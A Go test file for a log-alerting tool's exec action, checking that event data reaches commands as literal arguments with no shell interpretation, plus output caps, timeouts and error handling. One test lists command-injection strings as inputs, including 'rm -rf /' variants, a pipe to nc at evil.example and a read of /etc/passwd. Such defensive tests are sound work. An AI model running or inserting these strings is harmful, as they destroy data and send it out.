package actions

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/venus-medic/venus-medic/event"
)

// The test binary is also the command the exec tests run: with
// VENUS_MEDIC_TEST_CHILD set, TestMain runs child instead of the tests.
const childEnv = "VENUS_MEDIC_TEST_CHILD"

func TestMain(m *testing.M) {
	if mode := os.Getenv(childEnv); mode != "" {
		child(mode)
		os.Exit(0)
	}
	os.Exit(m.Run())
}

// childReport is what the "argv" child writes to VENUS_MEDIC_TEST_OUT.
type childReport struct {
	Args  []string          `json:"args"`
	Env   map[string]string `json:"env"`
	Stdin string            `json:"stdin"`
}

func child(mode string) {
	switch mode {
	case "argv":
		in, _ := io.ReadAll(os.Stdin)
		r := childReport{Args: os.Args[1:], Env: map[string]string{}, Stdin: string(in)}
		for _, kv := range os.Environ() {
			if k, v, _ := strings.Cut(kv, "="); strings.HasPrefix(k, "ARG_") {
				r.Env[k] = v
			}
		}
		b, _ := json.Marshal(r)
		if err := os.WriteFile(os.Getenv("VENUS_MEDIC_TEST_OUT"), b, 0o600); err != nil {
			os.Exit(9)
		}
		fmt.Println("reported", len(r.Args), "arguments")
	case "fail":
		fmt.Println("checking the disk")
		fmt.Fprintln(os.Stderr, "boom: disk full")
		os.Exit(3)
	case "spam":
		chunk := strings.Repeat("x", 1023) + "\n"
		for i := 0; i < 2048; i++ { // 2 MiB
			os.Stdout.WriteString(chunk)
		}
	case "tree":
		// Start a grandchild in the same process group, tell the test
		// its pid, and wait to be killed.
		gc := exec.Command(os.Args[0])
		gc.Env = append(os.Environ(), childEnv+"=sleep")
		if err := gc.Start(); err != nil {
			os.Exit(8)
		}
		tmp := os.Getenv("VENUS_MEDIC_TEST_OUT") + ".tmp"
		os.WriteFile(tmp, []byte(strconv.Itoa(gc.Process.Pid)), 0o600)
		os.Rename(tmp, os.Getenv("VENUS_MEDIC_TEST_OUT"))
		time.Sleep(time.Hour)
	case "sleep":
		time.Sleep(time.Hour)
	}
}

// execAction builds an exec action running the test binary in mode, with
// the command's arguments args (templates) and the environment env.
func execAction(t *testing.T, mode string, args []string, env map[string]string) (*Exec, string) {
	t.Helper()
	exe, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	out := filepath.Join(t.TempDir(), "report.json")
	cmd, _ := json.Marshal(append([]string{exe}, args...))
	// A race-enabled test binary otherwise sleeps a second at exit.
	envm := map[string]string{childEnv: mode, "VENUS_MEDIC_TEST_OUT": out, "GORACE": "atexit_sleep_ms=0"}
	for k, v := range env {
		envm[k] = v
	}
	envj, _ := json.Marshal(envm)
	c := buildYAML(t, "type: exec\ncommand: "+string(cmd)+"\nenv: "+string(envj)+"\n", nil)
	return c.Action.(*Exec), out
}

func readReport(t *testing.T, path string) childReport {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("the command did not report: %v", err)
	}
	var r childReport
	if err := json.Unmarshal(b, &r); err != nil {
		t.Fatal(err)
	}
	return r
}

// TestExecArgvIsExactlyTheTemplate: whatever the log holds, each element
// of command arrives as exactly one argument, byte for byte, and nothing
// is interpreted by a shell or rendered twice.
func TestExecArgvIsExactlyTheTemplate(t *testing.T) {
	x, out := execAction(t, "argv",
		[]string{"{{ .msg }}", "pre-{{ .line }}-post", "{{ .rule }}", "literal arg with spaces", "{{ capture \"id\" }}"},
		map[string]string{"ARG_MSG": "{{ .msg }}", "ARG_FIELD": `{{ field "api hub" }}`})
	for _, h := range []string{
		"$(rm -rf /)",
		"`rm -rf /`",
		"a; rm -rf / ; b",
		"x | nc evil.example 1 && y || z",
		"line1\nline2\r\nline3",
		"{{ .msg }} {{ printf \"%s\" .rule }}",
		"  spaces  'single' \"double\" \\backslash * ? ~ $HOME ${PATH} > /tmp/out < /etc/passwd &",
		"--flag=value -rf",
		"",
		"ünïcödé 钱包 \u202Eevil",
	} {
		f := firing()
		f.Event.Msg = h
		f.Event.Line = h
		f.Event.Captures = map[string]string{"id": h}
		f.Event.Fields = map[string]any{"api hub": h}
		if err := os.Remove(out); err != nil && !os.IsNotExist(err) {
			t.Fatal(err)
		}
		output, retry, err := x.DoOutput(context.Background(), f)
		if err != nil {
			t.Fatalf("%q: %v (retry %v, output %q)", h, err, retry, output)
		}
		r := readReport(t, out)
		want := []string{h, "pre-" + h + "-post", "wallet-password-not-set", "literal arg with spaces", h}
		if len(r.Args) != len(want) {
			t.Fatalf("%q: %d arguments, want %d: %q", h, len(r.Args), len(want), r.Args)
		}
		for i := range want {
			if r.Args[i] != want[i] {
				t.Errorf("%q: argument %d is %q, want %q", h, i+1, r.Args[i], want[i])
			}
		}
		if h != "" && (r.Env["ARG_MSG"] != h || r.Env["ARG_FIELD"] != h) {
			t.Errorf("%q: environment %q", h, r.Env)
		}
		var stdin map[string]any
		if err := json.Unmarshal([]byte(r.Stdin), &stdin); err != nil || stdin["rule"] != "wallet-password-not-set" || stdin["event"].(map[string]any)["msg"] != h {
			t.Errorf("%q: stdin is not the firing as JSON: %v %q", h, err, r.Stdin)
		}
		if !strings.Contains(output, "reported 5 arguments") {
			t.Errorf("output %q", output)
		}
	}
}

// TestExecHugeCapture: a 1 MB capture is still one argument, cut to the
// template output cap with a marker.
func TestExecHugeCapture(t *testing.T) {
	x, out := execAction(t, "argv", []string{"{{ capture \"blob\" }}", "after"}, nil)
	f := firing()
	big := strings.Repeat("$(x) ;|`\n", 1<<20/9+1)
	f.Event.Captures = map[string]string{"blob": big}
	if _, _, err := x.DoOutput(context.Background(), f); err != nil {
		t.Fatal(err)
	}
	r := readReport(t, out)
	if len(r.Args) != 2 || r.Args[1] != "after" {
		t.Fatalf("%d arguments", len(r.Args))
	}
	a := r.Args[0]
	if !strings.HasSuffix(a, "…[cut]") || !strings.HasPrefix(big, strings.TrimSuffix(a, "…[cut]")) || len(a) < event.MaxRendered {
		t.Errorf("argument of %d bytes is not the capture's first %d bytes and a marker", len(a), event.MaxRendered)
	}
}

func TestExecFailure(t *testing.T) {
	x, _ := execAction(t, "fail", nil, nil)
	output, retry, err := x.DoOutput(context.Background(), firing())
	if err == nil || !retry {
		t.Fatalf("got retry %v err %v", retry, err)
	}
	if !strings.Contains(err.Error(), "exit status 3") || !strings.Contains(err.Error(), "boom: disk full") {
		t.Errorf("error %q lacks the exit status and stderr", err)
	}
	if !strings.Contains(output, "checking the disk") || !strings.Contains(output, "boom: disk full") {
		t.Errorf("output %q", output)
	}
}

func TestExecNotFound(t *testing.T) {
	c := buildYAML(t, "type: exec\ncommand: [/nonexistent/venus-medic-test-tool, x]\n", nil)
	retry, err := c.Action.Do(context.Background(), firing())
	if err == nil || retry {
		t.Fatalf("got retry %v err %v; a missing program is not worth retrying", retry, err)
	}
	if !strings.Contains(err.Error(), "/nonexistent/venus-medic-test-tool") {
		t.Errorf("error %q", err)
	}
}

func TestExecOutputCap(t *testing.T) {
	x, _ := execAction(t, "spam", nil, nil)
	output, _, err := x.DoOutput(context.Background(), firing())
	if err != nil {
		t.Fatal(err)
	}
	marker := fmt.Sprintf("\n…[output cut: %d more bytes]", 2<<20-MaxOutput)
	if !strings.HasSuffix(output, marker) || len(output) != MaxOutput+len(marker) {
		t.Errorf("output of %d bytes ends %q; want %d bytes and %q", len(output), output[max(0, len(output)-60):], MaxOutput+len(marker), marker)
	}
}

// TestExecTimeoutKillsTheProcessGroup: when the attempt's context ends,
// the command and the children it started are killed.
func TestExecTimeoutKillsTheProcessGroup(t *testing.T) {
	x, out := execAction(t, "tree", nil, nil)
	ctx, cancel := context.WithTimeout(context.Background(), 1500*time.Millisecond)
	defer cancel()
	start := time.Now()
	_, retry, err := x.DoOutput(ctx, firing())
	if err == nil || !retry || !errors.Is(err, context.DeadlineExceeded) || !strings.Contains(err.Error(), "killed") {
		t.Fatalf("got retry %v err %v", retry, err)
	}
	if d := time.Since(start); d > 10*time.Second {
		t.Errorf("the attempt took %v", d)
	}
	b, rerr := os.ReadFile(out)
	if rerr != nil {
		t.Fatalf("the command did not start its child in time: %v", rerr)
	}
	pid, _ := strconv.Atoi(string(b))
	waitDead(t, pid)
}
